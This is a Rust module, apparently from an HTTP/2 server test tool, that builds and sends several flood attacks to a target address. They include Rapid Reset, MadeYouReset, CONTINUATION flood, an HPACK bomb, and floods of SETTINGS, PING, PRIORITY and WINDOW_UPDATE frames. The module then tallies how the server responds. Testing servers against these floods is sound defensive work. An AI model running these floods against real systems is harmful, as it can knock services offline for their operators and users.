//! Floods: much of what is allowed in small numbers.

use std::{
    io::{ErrorKind, Write},
    net::SocketAddr,
    time::Instant,
};

use serde_json::json;

use super::{
    Connection,
    frame::{
        ACK, CONTINUATION, DATA, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, frame, get, headers, kept, request, settings,
    },
};

/// See [`crate::Peer::H2Flood`].
#[derive(clap::Args)]
pub(crate) struct FloodArgs {
    #[arg(long)]
    to: SocketAddr,
    #[arg(long, value_enum)]
    kind: Kind,
    /// Of what it sends.
    #[arg(long)]
    count: u32,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
enum Kind {
    /// Requests, each reset at once (CVE-2023-44487).
    RapidReset,
    /// The same, each by an error that the server has to reset it for (CVE-2025-8671).
    MadeYouReset,
    /// A header block without end (CVE-2024-27316).
    Continuation,
    /// References to one large field, in one block.
    HpackBomb,
    /// Requests without end, none of which is ended.
    Streams,
    Settings,
    Ping,
    Priority,
    EmptyData,
    WindowUpdate,
}

impl Kind {
    fn before(self) -> Vec<u8> {
        match self {
            Self::Continuation => frame(HEADERS, END_STREAM, 1, &request("GET", "/")),
            Self::EmptyData | Self::WindowUpdate => headers(1, 0, &request("POST", "/")),
            Self::HpackBomb => {
                let large = kept("x-large", &"x".repeat(3900));
                headers(1, END_STREAM, &[request("GET", "/"), large].concat())
            }
            _ => Vec::new(),
        }
    }

    fn turn(self, number: u32) -> Vec<u8> {
        let stream = number * 2 + 1;
        match self {
            Self::RapidReset => [
                get(stream, "/"),
                frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]),
            ]
            .concat(),
            Self::MadeYouReset => {
                let nothing = frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
                [headers(stream, 0, &request("POST", "/")), nothing].concat()
            }
            Self::Continuation => frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
            // The newest field of the dynamic table.
            Self::HpackBomb => headers(
                stream + 2,
                END_STREAM,
                &[&request("GET", "/")[..], &[0xbe; 10_000]].concat(),
            ),
            Self::Streams => headers(stream, 0, &request("POST", "/")),
            Self::Settings => settings(&[(4, 65_535 + number % 2)]),
            Self::Ping => frame(PING, 0, 0, &[7; 8]),
            Self::Priority => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 7]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::WindowUpdate => frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
        }
    }
}

/// Sends it all, reading what comes, and says how far it got and what the server had to say: of
/// each answer, how many.
pub(crate) fn flood(args: &FloodArgs) {
    let begun = Instant::now();
    let mut connection = Connection::open(args.to, &[]).expect("connect");
    let mut writing = connection.stream.try_clone().expect("dup");
    let (kind, count) = (args.kind, args.count);
    let writer = std::thread::spawn(move || {
        let mut sent = 0;
        if writing.write_all(&kind.before()).is_err() {
            return 0;
        }
        while sent < count {
            let until = count.min(sent + 50);
            let bytes: Vec<u8> = (sent..until).flat_map(|number| kind.turn(number)).collect();
            if writing.write_all(&bytes).is_err() {
                return sent;
            }
            sent = until;
        }
        // Answered behind all of it, if the connection still is one.
        let _ = writing.write_all(&frame(PING, 0, 0, b"the last"));
        sent
    });
    let mut verdicts = std::collections::BTreeMap::<String, u64>::new();
    let end = loop {
        match connection.frame() {
            Ok(Some(frame)) if frame.kind == SETTINGS && frame.flags & ACK == 0 => {}
            Ok(Some(frame)) if frame.kind == PING && frame.payload == b"the last" => {
                break "served".to_owned();
            }
            Ok(Some(frame)) => {
                if let Some(verdict) = frame.verdict() {
                    *verdicts.entry(verdict.clone()).or_default() += 1;
                    if frame.kind == GOAWAY && frame.code() != Some("NO_ERROR") {
                        break verdict;
                    }
                }
            }
            Ok(None) => break "closed".to_owned(),
            Err(error) if error.kind() == ErrorKind::WouldBlock => break "silent".to_owned(),
            Err(_) => break "closed".to_owned(),
        }
    };
    let _ = connection.stream.shutdown(std::net::Shutdown::Both);
    let sent = writer.join().expect("the writer does not panic");
    println!(
        "{}",
        json!({
            "event": "flooded",
            "end": end,
            "sent": sent,
            "verdicts": verdicts,
            "milliseconds": begun.elapsed().as_millis() as u64,
        })
    );
}
